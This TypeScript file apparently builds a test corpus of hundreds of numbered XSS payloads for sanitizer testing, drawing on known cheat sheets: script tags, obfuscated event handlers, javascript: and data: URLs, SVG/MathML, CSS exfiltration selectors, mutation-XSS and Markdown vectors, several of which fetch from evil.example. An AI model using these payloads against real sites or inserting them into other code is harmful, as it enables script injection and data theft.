// The XSS corpus: well-known payload families (OWASP XSS filter-evasion cheat sheet, PortSwigger's XSS
// cheat sheet, DOMPurify's mXSS cases, HTML5 Security Cheatsheet) crossed with tags, events, URL schemes
// and encodings, each payload tagged with its number. Every payload that ran would reveal itself:
// alert/confirm/prompt/print (a `dialog` event), console.log('XSS-n'), or a request to evil.example.
export interface Payload {
  id: number
  family: string
  html: string
}

const JS = (n: number): string => `alert(${n})`
const sink = (n: number): string => `alert(${n});console.log('XSS-${n}');fetch('https://evil.example/x/${n}')`

export function xssPayloads(): Payload[] {
  const out: Payload[] = []
  const add = (family: string, make: (n: number) => string): void => {
    const id = out.length + 1
    out.push({ id, family, html: make(id) })
  }

  // 1. Script elements, every way of spelling them.
  const scripts = [
    (n: number) => `<script>${sink(n)}</script>`,
    (n: number) => `<SCRIPT>${JS(n)}</SCRIPT>`,
    (n: number) => `<script src="https://evil.example/s/${n}.js"></script>`,
    (n: number) => `<script src=//evil.example/s/${n}.js></script>`,
    (n: number) => `<script/xss src="data:text/javascript,${JS(n)}"></script>`,
    (n: number) => `<<script>${JS(n)};//<</script>`,
    (n: number) => `<script>/*</script><img src=x onerror=${JS(n)}>*/</script>`,
    (n: number) => `<scr<script>ipt>${JS(n)}</scr</script>ipt>`,
    (n: number) => `<script type="module">${sink(n)}</script>`,
    (n: number) => `<script>eval(atob('${Buffer.from(JS(n)).toString('base64')}'))</script>`,
    (n: number) => `<script>setTimeout('${JS(n)}')</script>`,
    (n: number) => `<script\x20type="text/javascript">${JS(n)}</script>`,
    (n: number) => `<svg><script>${sink(n)}</script></svg>`,
    (n: number) => `<svg><script href="data:,${JS(n)}"/></svg>`,
    (n: number) => `<math><mtext><script>${JS(n)}</script></mtext></math>`
  ]
  for (const s of scripts) add('script', s)

  // 2. Event handlers × elements.
  const tags = ['img src=x', 'svg', 'body', 'iframe', 'video src=x', 'audio src=x', 'input autofocus', 'details open', 'marquee', 'select autofocus', 'textarea autofocus', 'object data=x', 'embed src=x', 'a href=#', 'div tabindex=1 autofocus', 'style', 'link rel=stylesheet href=x', 'image src=x', 'isindex', 'keygen autofocus']
  const events = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart', 'onbegin', 'onpageshow', 'onstart', 'onfocusin', 'onpointerenter', 'onwheel']
  for (const tag of tags) for (const ev of events) add('event-handler', (n) => `<${tag} ${ev}="${sink(n)}">x</${tag.split(' ')[0]}>`)

  // 3. Handler obfuscation (case, separators, entities, backticks, missing quotes).
  const obf = [
    (n: number) => `<IMG SRC=x OnErRoR=${JS(n)}>`,
    (n: number) => `<img src=x onerror\x0b=${JS(n)}>`,
    (n: number) => `<img src=x onerror\x0c=${JS(n)}>`,
    (n: number) => `<img/src=x/onerror=${JS(n)}>`,
    (n: number) => `<img src=x onerror=\`${JS(n)}\`>`,
    (n: number) => `<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;${n}&#41;">`,
    (n: number) => `<img src=x onerror="&#x61;&#x6c;&#x65;&#x72;&#x74;(${n})">`,
    (n: number) => `<img src=x onerror="\\u0061lert(${n})">`,
    (n: number) => `<img src=x onerror="window['al'+'ert'](${n})">`,
    (n: number) => `<img src=x onerror="top[/al/.source+/ert/.source](${n})">`,
    (n: number) => `<img src=x onerror=confirm(${n})>`,
    (n: number) => `<img src=x onerror=prompt(${n})>`,
    () => `<img src=x onerror=print()>`,
    (n: number) => `<img src="x" onerror="javascript:${JS(n)}"`,
    (n: number) => `<img """><script>${JS(n)}</script>">`,
    (n: number) => `<img src=x:${JS(n)} onerror=eval(src)>`,
    (n: number) => `<svg/onload=${JS(n)}>`,
    (n: number) => `<svg onload=${JS(n)}//`,
    (n: number) => `<body onload=${JS(n)}>`,
    (n: number) => `<input onfocus=${JS(n)} autofocus>`
  ]
  for (const o of obf) add('handler-obfuscation', o)

  // 4. Dangerous URL schemes × attributes × spellings.
  const schemes = [
    (n: number) => `javascript:${sink(n)}`,
    (n: number) => `JaVaScRiPt:${JS(n)}`,
    (n: number) => ` javascript:${JS(n)}`,
    (n: number) => `java\tscript:${JS(n)}`,
    (n: number) => `java\nscript:${JS(n)}`,
    (n: number) => `java&#x09;script:${JS(n)}`,
    (n: number) => `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${JS(n)}`,
    (n: number) => `&#x6A;avascript&colon;${JS(n)}`,
    (n: number) => `javascript&#0000058${JS(n)}`,
    (n: number) => `\x01javascript:${JS(n)}`,
    (n: number) => `data:text/html,<script>${sink(n)}</script>`,
    (n: number) => `data:text/html;base64,${Buffer.from(`<script>${JS(n)}</script>`).toString('base64')}`,
    (n: number) => `data:image/svg+xml,<svg onload=${JS(n)}>`,
    (n: number) => `vbscript:msgbox(${n})`,
    (n: number) => `https://evil.example/u/${n}`
  ]
  const attrs = [
    (u: string) => `<a href="${u}">link</a>`,
    (u: string) => `<a href='${u}' target=_blank>link</a>`,
    (u: string) => `<iframe src="${u}"></iframe>`,
    (u: string) => `<img src="${u}">`,
    (u: string) => `<form action="${u}"><button>go</button></form>`,
    (u: string) => `<button formaction="${u}">go</button>`,
    (u: string) => `<object data="${u}"></object>`,
    (u: string) => `<embed src="${u}">`,
    (u: string) => `<svg><a xlink:href="${u}"><text x=20 y=20>x</text></a></svg>`,
    (u: string) => `<math><maction actiontype="statusline" xlink:href="${u}">x</maction></math>`,
    (u: string) => `<area href="${u}">`,
    (u: string) => `<base href="${u}">`,
    (u: string) => `<meta http-equiv="refresh" content="0;url=${u}">`,
    (u: string) => `<video poster="${u}"></video>`,
    (u: string) => `<source srcset="${u}">`,
    (u: string) => `<input type=image src="${u}">`
  ]
  for (const scheme of schemes) for (const attr of attrs) add('url-scheme', (n) => attr(scheme(n)))

  // 5. SVG and MathML specifics.
  const svg = [
    (n: number) => `<svg><animate onbegin=${JS(n)} attributeName=x dur=1s>`,
    (n: number) => `<svg><set attributeName=href to="javascript:${JS(n)}"/></svg>`,
    (n: number) => `<svg><animate attributeName=href values="javascript:${JS(n)}"/><a><text y=1em>x</text></a></svg>`,
    (n: number) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${JS(n)}'/></svg>#x"/></svg>`,
    (n: number) => `<svg><foreignObject><iframe srcdoc="<script>${JS(n)}</script>"></iframe></foreignObject></svg>`,
    (n: number) => `<svg><image href=x onerror=${JS(n)}></svg>`,
    (n: number) => `<svg><style>@import 'https://evil.example/c/${n}.css'</style></svg>`,
    (n: number) => `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${JS(n)}</handler></svg>`,
    (n: number) => `<math><a xlink:href="javascript:${JS(n)}">x</a></math>`,
    (n: number) => `<svg><discard onbegin=${JS(n)}>`,
    (n: number) => `<svg><feImage href="https://evil.example/i/${n}.png"/></svg>`,
    (n: number) => `<svg><script xlink:href="https://evil.example/s/${n}.js"/></svg>`
  ]
  for (const s of svg) add('svg-mathml', s)

  // 6. CSS: remote loads, legacy script hooks, exfiltration selectors.
  const css = [
    (n: number) => `<style>@import url("https://evil.example/c/${n}.css");</style>`,
    (n: number) => `<style>body{background:url("https://evil.example/b/${n}.png")}</style>`,
    (n: number) => `<div style="background-image:url(https://evil.example/d/${n}.png)">x</div>`,
    (n: number) => `<div style="width:expression(${JS(n)})">x</div>`,
    (n: number) => `<div style="behavior:url(https://evil.example/h/${n}.htc)">x</div>`,
    (n: number) => `<div style="-moz-binding:url(https://evil.example/x/${n}.xml#x)">x</div>`,
    (n: number) => `<style>input[value^=a]{background:url(https://evil.example/k/${n})}</style><input value=abc>`,
    (n: number) => `<style>@font-face{font-family:x;src:url(https://evil.example/f/${n}.woff)}p{font-family:x}</style>`,
    (n: number) => `<style>*{animation:x 1s}@keyframes x{}</style><div onanimationstart=${JS(n)}>x</div>`,
    (n: number) => `<link rel=stylesheet href="https://evil.example/l/${n}.css">`,
    (n: number) => `<p style="background:url(javascript:${JS(n)})">x</p>`,
    (n: number) => `<style>li{list-style:url("https://evil.example/li/${n}.png")}</style><ul><li>x</li></ul>`
  ]
  for (const c of css) add('css', c)

  // 7. Frames, documents and mutation XSS (parser differentials).
  const mxss = [
    (n: number) => `<iframe srcdoc="&lt;script&gt;${JS(n)}&lt;/script&gt;"></iframe>`,
    (n: number) => `<noscript><p title="</noscript><img src=x onerror=${JS(n)}>">`,
    (n: number) => `<template><img src=x onerror=${JS(n)}></template>`,
    (n: number) => `<svg></p><style><a id="</style><img src=1 onerror=${JS(n)}>">`,
    (n: number) => `<math><mtext><table><mglyph><style><img src=x onerror=${JS(n)}>`,
    (n: number) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${JS(n)}>`,
    (n: number) => `<xmp><img src=x onerror=${JS(n)}></xmp>`,
    (n: number) => `<textarea><img src=x onerror=${JS(n)}></textarea>`,
    (n: number) => `<title><img src=x onerror=${JS(n)}></title>`,
    (n: number) => `<!--<img src="--><img src=x onerror=${JS(n)}//">`,
    (n: number) => `<![CDATA[><img src=x onerror=${JS(n)}>]]>`,
    (n: number) => `<div id="x"></div><img src=x name=getElementById onerror=${JS(n)}>`,
    (n: number) => `<a id=defaultView><a id=defaultView name=alert href="javascript:${JS(n)}">x</a>`,
    (n: number) => `<object data="javascript:${JS(n)}">`,
    (n: number) => `<embed src="javascript:${JS(n)}">`,
    (n: number) => `<frameset onload=${JS(n)}>`,
    (n: number) => `<portal src="https://evil.example/p/${n}"></portal>`,
    (n: number) => `<webview src="https://evil.example/w/${n}"></webview>`,
    (n: number) => `<isindex type=image src=1 onerror=${JS(n)}>`,
    (n: number) => `<div data-x="&quot;&gt;&lt;img src=x onerror=${JS(n)}&gt;">x</div>`
  ]
  for (const m of mxss) add('frames-mxss', m)
  return out
}

/** Markdown-only vectors (links, images, autolinks, reference definitions) for the .md files. */
export function markdownPayloads(start: number): Payload[] {
  const forms = [
    (n: number) => `[click](javascript:${JS(n)})`,
    (n: number) => `[click](JaVaScRiPt:${JS(n)})`,
    (n: number) => `[click](<javascript:${JS(n)}>)`,
    (n: number) => `[click](data:text/html,<script>${JS(n)}</script>)`,
    (n: number) => `![img](javascript:${JS(n)})`,
    (n: number) => `![img](https://evil.example/m/${n}.png)`,
    (n: number) => `<javascript:${JS(n)}>`,
    (n: number) => `[ref][x${n}]\n\n[x${n}]: javascript:${JS(n)}`,
    (n: number) => `[a](javascript&#58;${JS(n)})`,
    (n: number) => `[a](vbscript:msgbox(${n}))`,
    (n: number) => `<a href="javascript:${JS(n)}">raw html in markdown</a>`,
    (n: number) => `\`\`\`html\n<script>${JS(n)}</script>\n\`\`\``
  ]
  return forms.map((f, i) => ({ id: start + i, family: 'markdown', html: f(start + i) }))
}
